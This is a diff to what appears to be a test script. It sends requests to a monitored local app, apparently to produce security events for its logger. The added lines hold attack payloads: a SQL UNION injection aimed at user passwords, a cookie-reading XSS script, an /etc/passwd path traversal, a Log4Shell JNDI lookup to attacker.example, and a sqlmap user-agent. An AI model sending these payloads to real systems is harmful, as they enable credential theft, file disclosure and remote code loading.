@@ -72,6 +72,16 @@ await fetch(`${base}/admin/users?access_token=eyJhbGciOiJIUzI1NiJ9.secret`)
 await post('/login', '{"username": "alice", ', { 'x-request-id': 'req-7f3a' })
 await fetch(`${base}/api/orders`, { headers: { origin: 'https://evil.example' } })
 await fetch(`${base}/api/orders`, { method: 'PROPFIND' })
+await step('injection probes: SQL in a query, script in a body, a path climbing out, Log4Shell, sqlmap')
+await fetch(
+  `${base}/api/orders?sort=${encodeURIComponent("id' UNION SELECT username, password FROM users--")}`,
+)
+await post('/login', JSON.stringify({ username: '<script>alert(document.cookie)</script>', password: 'x' }))
+await fetch(`${base}/api/orders?export=${encodeURIComponent('../../../../etc/passwd')}`)
+await fetch(`${base}/api/orders`, { headers: { 'x-forwarded-host': `\${jndi:ldap://attacker.example/a}` } })
+await fetch(`${base}/api/orders?id=1`, {
+  headers: { 'user-agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
+})
 
 await app.close() // delivers what is queued: the console lines and the uploads to the Logs Ingestion API
 const stats = app.watchpost.stats()
